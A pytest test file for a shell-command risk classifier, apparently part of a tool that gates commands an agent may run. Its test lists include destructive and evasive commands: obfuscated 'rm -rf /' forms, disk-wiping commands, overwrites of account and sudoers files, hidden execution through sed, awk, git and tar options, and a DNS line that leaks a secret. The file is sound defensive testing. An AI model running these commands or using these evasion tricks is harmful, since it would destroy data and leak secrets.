"""Default-deny classification: each program's read-only forms stay read-only, and every
form that executes, writes, destroys, reaches the network or changes the system does not
(GNU abbreviations, ``+`` words and options that take a value included); catastrophic forms
are denylisted in every mode.

Pure: every command here only reaches ``conch.policy.assess`` or the classifier; nothing runs.
"""

from __future__ import annotations

from importlib import resources

import pytest
import yaml

from conch.policy import ExecutionMode, PolicyContext, Risk, assess
from conch.policy.classify import RISK_ORDER, classify, explain
from conch.policy.commands import analyse
from conch.policy.options import Takes, load, read, table
from conch.policy.scripts import awk_program, sed_script

RO, W, D = Risk.READ_ONLY, Risk.WRITES, Risk.DESTRUCTIVE
P, NET, UNK = Risk.PRIVILEGED, Risk.NETWORK, Risk.UNKNOWN

# Read-only forms, by program: everyday commands must stay read-only.
READ_ONLY = [
    "ls -lhS",
    "ls -la --color=auto src",
    "ls --sort=size -r",
    "ls -ltr /var/log",
    "grep -rn TODO src",
    "grep -E 'a|b' -C2 f",
    "grep --include='*.py' -rl import .",
    "grep -f patterns.txt data.txt",
    "find . -name '*.log' -type f -mtime +7",
    "find . -maxdepth 1 -type d -empty",
    "find -L . -name x",
    "find . \\( -name '*.c' -o -name '*.h' \\) -print0",
    "find . -type f -exec grep -l foo {} +",
    "find /var/log -newermt 2024-01-01 -printf '%p %s\\n'",
    "sort -k2 -n data.txt",
    "sort -t: -k3,3n /etc/passwd",
    "uniq -c words.txt",
    "cut -d, -f1 data.csv",
    "awk '{print $1}' data.txt",
    "awk -F: '$3 > 1000 {print $1}' /etc/passwd",
    "awk '{s+=$1} END {print s}' f",
    "awk '!seen[$0]++' f",
    "awk '{print ($1 > 5)}' f",
    "awk '/a|b/ {n++} END {print n}' f",
    "awk -v OFS=, '{$1=$1}1' f",
    'awk \'BEGIN {printf "%s\\n", "x" > "/dev/stderr"}\'',
    "awk 'length($0) > 80' f",
    "sed -n 1,5p file.txt",
    "sed -n '$p' f",
    "sed '1!G;h;$!d' f",
    "sed -E 's/(a+)/<\\1>/g' f",
    "sed 's|/usr|/opt|2' f",
    "sed '/^$/d;s/x/y/I' f",
    "sed -n '/start/,/end/{p;q}' f",
    "sed 'y/abc/xyz/' f",
    "sed -e 's/a/b/' -e 's/c/d/w /dev/stdout' f",
    "du -sh .",
    "du -h --max-depth=1 /var | sort -h",
    "df -hT",
    "ps aux",
    "ps -eo pid,cmd --sort=-%mem",
    "git log --oneline",
    "git log --onel -5",
    "git log --graph --pretty=format:'%h %s' --since='2 weeks ago'",
    "git status -sb",
    "git diff --stat HEAD~1",
    "git -C repo status",
    "git --no-pager log -p -1",
    "git show HEAD:README.md",
    "git branch -a",
    "git remote -v",
    "git config --get user.name",
    "git stash list",
    "git blame -L 1,5 f",
    "git rev-parse --abbrev-ref HEAD",
    "head -n5 f",
    "head -5 f",
    "tail -n +2 f",
    "tail -f app.log",
    "cat -n f",
    "wc -l f",
    "echo hello",
    "printf '%s\\n' a b",
    "date +%Y-%m-%d",
    "date -d yesterday +%F",
    "hostname -I",
    "ip a",
    "ip -br addr show",
    "ip route get 1.1.1.1",
    "ip -4 -o addr",
    "ifconfig -a",
    "ifconfig eth0",
    "route -n",
    "arp -n",
    "ss -tlnp",
    "netstat -an",
    "sysctl -a",
    "sysctl net.ipv4.ip_forward",
    "journalctl -u nginx --since today --no-pager",
    "journalctl -b -1",
    "journalctl -n 20",
    "systemctl status nginx",
    "systemctl list-units --type=service --state=running",
    "docker ps -a",
    "docker logs -f web",
    "tar -tzf archive.tgz",
    "tar tvf archive.tar",
    "unzip -l a.zip",
    "gzip -dc a.gz",
    "zcat a.gz",
    "xzcat a.xz",
    "xxd -l 16 f",
    "xxd -p f",
    "od -An -tx1 f",
    "less +F app.log",
    "less +/pattern f",
    "less -N f",
    "man -k printf",
    "rg -n TODO src",
    "rg -z pattern logs",
    "fd -e py",
    "jq -r .name package.json",
    "diff -u a b",
    "md5sum -c sums.txt",
    "stat -c %s f",
    "file --mime-type f",
    "tree -L 2",
    "timeout -s KILL 5 ls",
    "timeout --sig KILL 5 ls",
    "nice -n 5 ls",
    "env -u X -C dir ls",
    "find . -name '*.txt' | xargs -I {} ls {}",
    "printf 'a b' | xargs ls",
    "watch -n 1 ls",
    "LC_ALL=C sort f",
    "set +x",
    "set -euo pipefail",
    "dc -e '2 3 + p'",
    "crontab -l",
    "kill -l",
    "dpkg -l",
    "apt list --installed",
    "pip list",
    "npm ls --depth=0",
    "tr '+/' '-_'",
    "uniq in.txt",
]

# Forms that must not be read-only, with the least risk they must have.
NOT_READ_ONLY = [
    # stream editors: execute and write commands, in-place editing
    ("sed '1e id' f", UNK),
    ("sed -n 'e id' f", UNK),
    ("sed 's/x/id/e' f", UNK),
    ("sed 's/x/y/w out.txt' f", W),
    ("sed -n 'w out.txt' f", W),
    ("sed '/x/W out.txt' f", W),
    ("sed -i 's/a/b/' f", W),
    ("sed -i.bak 's/a/b/' f", W),
    ("sed --in-pl 's/a/b/' f", W),
    ("sed --in-place=.orig p f", W),
    ("sed -ni p f", W),
    ("sed -e p -i f", W),
    ("sed -f script.sed f", UNK),
    ("sed --expr='1e id' f", UNK),
    ("sed 'Z' f", UNK),
    # awk
    ("awk 'BEGIN{system(\"id\")}'", UNK),
    ("awk '{print | \"sh\"}' f", UNK),
    ("awk '{print $0 > \"out.txt\"}' f", W),
    ("awk '{print >> \"log\"}' f", W),
    ("awk 'BEGIN{\"date\" | getline d; print d}'", UNK),
    ('awk \'BEGIN{f="system"; @f("id")}\'', UNK),
    ("awk -i inplace '{print}' f", W),
    ("gawk --include=lib.awk '{print}' f", UNK),
    ("awk -f prog.awk f", UNK),
    ("awk --fi prog.awk f", UNK),
    ("awk -E prog.awk f", UNK),
    ("awk 'BEGIN{getline l < \"/inet/tcp/0/example.com/80\"}'", NET),
    # dc runs shell commands with !
    ("dc -e '!id'", UNK),
    ("dc script.dc", UNK),
    ("echo 1 | dc", UNK),
    # version control: configuration, pagers, output files, external diff, environment
    ("git -c core.pager=id log", UNK),
    ("git -c 'alias.x=!id' x", UNK),
    ("git -C repo -c x=y status", UNK),
    ("git --config-env=core.pager=EVIL log", UNK),
    ("git --exec-path=/tmp log", UNK),
    ("git log --output=out.txt", W),
    ("git log --outp=out.txt", W),
    ("git diff --output out.txt", W),
    ("git diff --ext-diff", UNK),
    ("git myalias", UNK),
    ("GIT_PAGER=id git log", UNK),
    ("GIT_EXTERNAL_DIFF=x git diff", UNK),
    ("env GIT_SSH_COMMAND=x git status", UNK),
    ("git branch feature", W),
    ("git config user.name Someone", W),
    ("git stash", W),
    ("git checkout -- f", D),
    ("git reset --hard", D),
    ("git push", NET),
    # archivers: checkpoint actions, commands, compress programs, extraction, remote files
    ("tar --checkpoint=1 --checkpoint-action=exec=id -tf a.tar", UNK),
    ("tar -tf a.tar --to-command=id", UNK),
    ("tar --to-com=id -tf a.tar", UNK),
    ("tar -I id -tf a.tar", UNK),
    ("tar --use-compress-program=id -tf a.tar", UNK),
    ("tar --use-comp=id -tf a.tar", UNK),
    ("tar -xf a.tar", W),
    ("tar xzf a.tgz", W),
    ("tar -tf host:a.tar", NET),
    ("tar -cf a.tar --remove-files dir", D),
    ("unzip a.zip", W),
    ("zip -m a.zip f", D),
    ("gzip f", W),
    # search tools: preprocessors and commands per result
    ("rg --pre id pattern", UNK),
    ("rg --pre=id pattern", UNK),
    ("rg --hostname-bin=id x", UNK),
    ("fd -x id", UNK),
    ("fd -X id", UNK),
    ("fd --exec id", UNK),
    # find: actions that write or delete, options before the start point
    ("find . -fprint out.txt", W),
    ("find . -fls out.txt", W),
    ("find . -fprintf out.txt '%p'", W),
    ("find . -name x -delete", D),
    ("find -L . -delete", D),
    ("find -D tree . -delete", D),
    ("find -O3 . -delete", D),
    ("find . -exec rm {} \\;", D),
    ("find . -ok rm {} \\;", D),
    # output-file options and operands
    ("sort -o out.txt f", W),
    ("sort --outp=out.txt f", W),
    ("sort f --output out.txt", W),
    ("sort --compress-program=id f", UNK),
    ("uniq in.txt out.txt", W),
    ("xxd -r in.hex", W),
    ("xxd -r -p in.hex out.bin", W),
    ("xxd -revert in.hex", W),
    ("xxd in.bin out.hex", W),
    ("iconv -f latin1 -t utf8 -o out.txt f", W),
    ("shuf -o out.txt f", W),
    ("split -l 10 f", W),
    ("split --filter=id f", UNK),
    ("tee out.txt", W),
    ("tree -o out.txt", W),
    ("time -o out.txt ls", W),
    # pagers and manuals
    ("less '+!id' f", UNK),
    ("less +sout.txt f", UNK),
    ("less -o log.txt f", W),
    ("less --log-f=log.txt f", W),
    ("less -k keys f", UNK),
    ("LESSOPEN='|id %s' less f", UNK),
    ("more '+!id' f", UNK),
    ("man -P id ls", UNK),
    ("man --pager=id ls", UNK),
    ("man --pag=id ls", UNK),
    ("man -Hfirefox ls", UNK),
    ("man --html=firefox ls", UNK),
    ("MANPAGER=id man ls", UNK),
    ("bat --pager=id f", UNK),
    ("fzf --preview='id {}'", UNK),
    ("fzf --bind='enter:execute(id)'", UNK),
    # wrappers: what they run is judged
    ("watch -n 5 'rm x'", D),
    ("watch rm x", D),
    ("timeout -s KILL 5 rm x", D),
    ("timeout --sig KILL 5 rm x", D),
    ("timeout -k 1 5 rm x", D),
    ("nice -n 5 rm x", D),
    ("nice -5 rm x", D),
    ("env -u X -C dir rm x", D),
    ("env --unse X rm x", D),
    ("xargs -I {} rm {}", D),
    ("xargs -I{} rm {}", D),
    ("xargs --max-a 1 rm", D),
    ("LD_PRELOAD=/tmp/x.so ls", UNK),
    ("BASH_ENV=/tmp/x bash -c ls", UNK),
    ("PAGER=id git log", UNK),
    # the clock, the hostname, logs, the network, kernel settings
    ("date -s '2020-01-01'", P),
    ("date --set=2020-01-01", P),
    ("date --se=2020-01-01", P),
    ("date 010101012020", P),
    ("hostname evil", P),
    ("hostname -F name.txt", P),
    ("journalctl --vacuum-size=1M", D),
    ("journalctl --vacuum-t=1s", D),
    ("journalctl --rotate", P),
    ("journalctl --flush", P),
    ("ip link set eth0 down", P),
    ("ip route add default via 10.0.0.1", P),
    ("ip addr add 10.0.0.2/24 dev eth0", P),
    ("ip l s eth0 down", P),
    ("ip a flush dev eth0", P),
    ("ip -b cmds.txt", P),
    ("ip netns exec ns1 ls", P),
    ("ifconfig eth0 down", P),
    ("ifconfig eth0 10.0.0.2", P),
    ("route add default gw 10.0.0.1", P),
    ("arp -s 10.0.0.1 aa:bb:cc:dd:ee:ff", P),
    ("arp -d 10.0.0.1", P),
    ("sysctl -w net.ipv4.ip_forward=1", P),
    ("sysctl -p", P),
    ("sysctl net.ipv4.ip_forward=1", P),
    ("dmesg -C", P),
    ("ss -K dst 10.0.0.1", D),
    ("dig $(cat secret).example.com", NET),
    ("dig example.com", NET),
    ("nslookup example.com", NET),
    ("host example.com", NET),
    ("docker -H tcp://10.0.0.1:2375 ps", NET),
    ("docker --host=tcp://10.0.0.1 ps", NET),
    ("docker --context remote ps", NET),
    ("docker run alpine", P),
    ("systemctl --host root@10.0.0.1 status", NET),
    ("systemctl -H 10.0.0.1 status", NET),
    ("systemctl restart nginx", P),
    ("timedatectl set-time '2020-01-01'", P),
    ("hostnamectl hostname evil", P),
    ("ssh host ls", NET),
    ("rsync -a src/ host:dst/", NET),
    # shell builtins that change the shell for later commands
    ("hash -p /tmp/evil ls", UNK),
    ("compgen -C id x", UNK),
    ("export PAGER=id", UNK),
    ("history -c", W),
    ("ulimit -n 10", W),
    # package managers
    ("apt install x", P),
    ("pip install x", NET),
    ("pip list --outdated", NET),
    ("npm run build", UNK),
    ("go env -w GOFLAGS=-x", W),
    ("cargo build", UNK),
    # an option no table lists is at least a write; a program in no table is unknown
    ("ls --frobnicate", W),
    ("cat --some-new-option f", W),
    ("frobnicate --help", UNK),
]

# Catastrophic forms: denylisted in every mode.
DENYLISTED = [
    "rm -rf /proc/self/root/",
    "rm -rf /proc/1/root",
    "rm -rf /proc/self/root/etc",
    "rm -rf /proc/self/cwd/..",
    "rm -rf //",
    "rm -rf /./",
    "rm -rf /../",
    "rm -rf /???/",
    "rm -rf /e*c",
    "/???/r? -rf /",
    "/bin/r[m] -rf ~",
    "find -L / -delete",
    "find -D tree / -delete",
    "find -O3 / -delete",
    "find -P -O2 ~ -delete",
    "echo / | xargs -I{} rm -rf {}",
    "echo / | xargs -I % rm -rf %",
    "echo x | xargs -I{} rm -rf ~/{}/..",
    "env -C / rm -rf .",
    "env --chdir=/ rm -rf *",
    "env -C ~ rm -rf .",
    "rsync -a --delete empty/ ~/",
    "rsync -a --del empty/ /",
    "rsync -r --delete-after empty/ /etc",
    "tar --remove-files -cf /tmp/x.tar ~",
    "tar -czf /tmp/x.tgz --remove-files /etc",
    "zip -rm /tmp/x.zip ~",
    "zip -r --move /tmp/x.zip /",
    "dash -c 'rm -rf /'",
    "zsh -c 'rm -rf ~'",
    "ksh -c 'rm -rf /'",
    "fish -c 'rm -rf /'",
    "fish --command='rm -rf /'",
    "busybox sh -c 'rm -rf /'",
    "busybox rm -rf /",
    "sh -ec 'rm -rf /'",
    "bash --norc -c 'rm -rf /'",
    "su -c 'rm -rf /'",
    "su root -c 'rm -rf /'",
    "su -c'rm -rf /'",
    "runuser -l root -c 'rm -rf /'",
    "runuser -u root -- rm -rf /",
    "lvremove -f vg0/root",
    "vgremove vg0",
    "cryptsetup luksFormat /dev/sda2",
    "cryptsetup erase /dev/sda2",
    "blkdiscard /dev/nvme0n1",
    "zpool destroy tank",
    "zfs destroy -r tank",
    "sort -o /etc/passwd x",
    "sort --outp=/etc/passwd x",
    "uniq x /etc/passwd",
    "cp x /etc/shadow",
    "cp passwd /etc/",
    "install -m 644 x /etc/sudoers",
    "mv x /etc/passwd",
    "tee /etc/passwd",
    "dd if=x of=/etc/shadow",
    "xxd -r x /etc/passwd",
    "iconv -f utf8 -t latin1 -o /etc/group x",
    "sed -i d /etc/passwd",
    "timeout --sig KILL 5 rm -rf /",
    "nice -n 5 rm -rf ~",
    # paths computed at run time, or climbing out of an unknown directory
    "rm -rf /proc/$$/root",
    "cp x /proc/self/root/etc/passwd",
    "rm -rf ../../..",
    'rm -rf "${PWD%%/*}/"',
    'rm -rf "$(dirname "$HOME")"',
    "rm -rf /home/$LOGNAME",
    "find \"$HOME\" -name '*' -delete",
    # archive, sync or move away, then delete
    "tar -C ~ --remove-files -czf /tmp/h.tgz .",
    "rsync -r --remove-source-files /etc/ /tmp/etc/",
    "rclone delete ~",
    "rclone sync empty/ /",
    "7z a -sdel /tmp/a.7z /etc",
    # shells of other languages, and commands carried by options
    "xonsh --command='rm -rf /'",
    "pwsh -Command 'Remove-Item -Recurse /'",
    "dc -e '!rm -rf ~'",
    "git -c core.editor='rm -rf ~' commit",
    "git -c alias.y='!rm -rf /' y",
    "tar --to-command='rm -rf ~' -xf a.tar",
    "man --pager='rm -rf /' ls",
    "fd -X rm -rf ~ \\;",
    # volumes, arrays, whole disks
    "lvreduce -L 1M vg0/home",
    "cryptsetup luksKillSlot /dev/sdb1 1",
    "mdadm --zero-superblock /dev/sdb",
    "btrfs subvolume delete /home",
    "nvme sanitize /dev/nvme0",
    "badblocks -wsv /dev/sdb",
    "ddrescue /dev/zero /dev/sdb",
    # the accounts, sudo and boot files, however spelled
    "rm /etc/sudoers",
    "chmod 777 /etc/passwd",
    "chown nobody /etc/shadow",
    "echo x > /etc/sudoers.d/evil",
    "cp x //etc/sudoers",
    "rm -f /boot/initrd.img",
    "tee /boot/grub/grub.cfg",
    "gawk -i inplace '{print}' /etc/group",
]

# Everyday forms near the catastrophic ones: never denylisted.
NOT_DENYLISTED = [
    'rm -rf "$tmpdir"',
    "rm -rf ../build",
    "rm -rf build/..",
    "rm -rf ./node_modules",
    "cp /boot/config-6.1 .",
    "ls /boot",
    "tar -czf /tmp/boot.tgz /boot",
    "rsync -a --delete src/ dst/",
    "rsync -a --remove-source-files out/ /mnt/backup/",
    "git -c color.ui=always log",
    "git -c core.pager='less -R' log",
    "tar -xzf a.tgz -C /tmp/x",
    "zip -r site.zip site",
    "find /tmp/cache -type f -delete",
    "env -C /tmp rm -rf build",
    "cat /etc/passwd",
    "sort /etc/passwd",
]


def _risk(command: str) -> Risk:
    return assess(command, PolicyContext(unsafe=True)).risk


@pytest.mark.parametrize("command", READ_ONLY)
def test_a_read_only_form_is_read_only(command: str) -> None:
    assert _risk(command) is RO, [explain(i) for i in analyse(command).invocations]


@pytest.mark.parametrize(("command", "least"), NOT_READ_ONLY)
def test_a_form_that_changes_something_is_not_read_only(command: str, least: Risk) -> None:
    risk = _risk(command)
    assert RISK_ORDER.index(risk) >= RISK_ORDER.index(least), (
        risk,
        [explain(i) for i in analyse(command).invocations],
    )


@pytest.mark.parametrize("command", DENYLISTED)
@pytest.mark.parametrize(
    "context",
    [PolicyContext(), PolicyContext(unsafe=True), PolicyContext(mode=ExecutionMode.FULL)],
    ids=["safe", "unsafe", "full"],
)
def test_a_catastrophic_form_is_denylisted_in_every_mode(
    command: str, context: PolicyContext
) -> None:
    verdict = assess(command, context)
    assert verdict.denylisted, verdict.reasons


@pytest.mark.parametrize("command", NOT_DENYLISTED)
def test_an_everyday_form_near_a_catastrophic_one_is_not_denylisted(command: str) -> None:
    verdict = assess(command, PolicyContext(unsafe=True))
    assert not verdict.denylisted, verdict.reasons


def _reading(program: str, *words: str) -> list[str]:
    found = table(program)
    assert found is not None
    return sorted(read(found, list(words)).names())


def test_gnu_abbreviations_resolve_against_the_full_long_option_list() -> None:
    assert _reading("sed", "--in-pl", "p") == ["--in-place"]
    assert _reading("sort", "--outp=x") == ["--output"]
    assert _reading("journalctl", "--vacuum-s=1M") == ["--vacuum-size"]


def test_an_ambiguous_abbreviation_counts_as_its_most_dangerous_candidate() -> None:
    sort = table("sort")
    assert sort is not None
    # --c: --check (read-only) or --compress-program (runs a program)
    assert read(sort, ["--c=x", "f"]).risk() is UNK
    awk = table("awk")
    assert awk is not None
    assert read(awk, ["--fi", "p.awk"]).risk() is UNK  # --field-separator or --file


def test_an_exact_long_option_wins_over_longer_ones_it_prefixes() -> None:
    assert _reading("git", "--no-pager", "log") == ["--no-pager"]
    ls = table("ls")
    assert ls is not None
    assert read(ls, ["--color"]).risk() is RO


def test_clustered_short_options_and_attached_values_are_read_apart() -> None:
    assert _reading("ls", "-lhS") == ["-S", "-h", "-l"]
    grep = table("grep")
    assert grep is not None
    reading = read(grep, ["-rnm5", "x"])
    assert reading.values("-m") == ["5"]
    assert reading.operands == ["x"]


def test_an_option_that_takes_a_value_keeps_it_from_being_the_command() -> None:
    found = [i.name for i in analyse("timeout --sig KILL 5 ls -l").invocations]
    assert found == ["timeout", "ls"]
    found = [i.name for i in analyse("git -C repo -c x=y status").invocations]
    assert found == ["git"]
    found = [i.name for i in analyse("env -u X -C dir ls").invocations]
    assert found == ["env", "ls"]
    found = [i.name for i in analyse("xargs -I {} ls {}").invocations]
    assert found == ["xargs", "ls"]


def test_words_xargs_reads_from_unknown_input_may_be_options() -> None:
    # Known input or find's paths are judged; anything else may carry any option.
    assert _risk("xargs -I {} ls {}") is UNK
    assert _risk("cat list.txt | xargs sort") is UNK
    assert _risk("echo '-o out.txt in.txt' | xargs sort") is not RO
    assert _risk("find . -type f | xargs wc -l") is RO


def test_plus_words_are_options_only_where_the_program_reads_them_so() -> None:
    assert _risk("date +%s") is RO
    assert _risk("less +G f") is RO
    assert _risk("less '+|id' f") is UNK
    assert _risk("ls +x") is RO  # a file named +x


def test_options_after_operands_count_where_the_program_permutes() -> None:
    assert _risk("sort f -o out") is W
    assert _risk("timeout 5 ls -o") is RO  # -o is ls's option, not timeout's


def test_a_double_dash_ends_the_options() -> None:
    assert _risk("ls -- -o") is RO
    assert _risk("sort -- -o out") is RO  # two files named -o and out


def test_sed_scripts_are_read_command_by_command() -> None:
    assert sed_script("s/a/b/g;p") == []
    assert [r for r, _ in sed_script("1e id")] == [UNK]
    assert [r for r, _ in sed_script("s/a/b/w out")] == [W]
    assert [r for r, _ in sed_script("/x/{s/a/b/e\n}")] == [UNK]
    assert [r for r, _ in sed_script("s/a")] == [UNK]  # cannot be read


def test_awk_programs_tell_comparisons_from_redirections() -> None:
    assert awk_program("$3 > 100 {print $1}") == []
    assert awk_program("{print ($1 > 2)}") == []
    assert [r for r, _ in awk_program('{print $1 > "out"}')] == [W]
    assert [r for r, _ in awk_program('{print $1 | "sort"}')] == [UNK]
    assert awk_program("$0 ~ /a|b/") == []


def test_the_shipped_tables_load_and_every_program_name_is_a_string() -> None:
    text = (resources.files("conch.policy") / "data" / "programs.yaml").read_text("utf-8")
    tables = load(text)
    assert len(tables.programs) > 200
    assert all(isinstance(name, str) for name in tables.programs)
    assert tables.programs["egrep"] is tables.programs["grep"]


def test_the_shipped_tables_have_no_program_listed_twice() -> None:
    class Strict(yaml.SafeLoader):
        pass

    def mapping(loader: Strict, node: yaml.MappingNode) -> dict[object, object]:
        merge = "tag:yaml.org,2002:merge"  # `<<: *entry`: merged keys may be overridden
        keys = [loader.construct_object(k) for k, _v in node.value if k.tag != merge]
        duplicates = {k for k in keys if keys.count(k) > 1}
        assert not duplicates, (duplicates, node.start_mark)
        loader.flatten_mapping(node)
        return dict(loader.construct_pairs(node))

    Strict.add_constructor(yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG, mapping)
    text = (resources.files("conch.policy") / "data" / "programs.yaml").read_text("utf-8")
    yaml.load(text, Loader=Strict)


@pytest.mark.parametrize(
    "text",
    [
        "programs: {x: {read-only: -ab}}",
        "programs: {x: {read-only: value}}",
        "programs: {x: {risk: harmless}}",
        "programs: {x: {colour: red}}",
        "programs: {true: {}}",
        "fixed: {writes: ls}\nprograms: {ls: {}}",
    ],
)
def test_a_malformed_table_is_refused_when_loaded(text: str) -> None:
    with pytest.raises(ValueError):
        load(text)


def test_a_table_reads_values_blocks_and_attached_values() -> None:
    tables = load(
        "programs:\n  x:\n    read-only: -a -v= --long= --opt?= -exec=...\n"
        "    writes: -o=\n    style: words\n"
    )
    x = tables.programs["x"]
    assert x.long["-exec"].takes is Takes.BLOCK
    reading = read(x, ["-exec", "rm", "{}", ";", "-v", "1", "--opt=2", "-o", "f", "g"])
    assert reading.values("-exec") == ["rm {}"]
    assert reading.operands == ["g"]
    assert reading.risk() is W


def test_a_program_in_no_table_is_unknown_and_an_unlisted_option_a_write() -> None:
    (inv,) = analyse("frobnicate").invocations
    assert classify(inv) is UNK
    (inv,) = analyse("ls --frobnicate").invocations
    assert classify(inv) is W
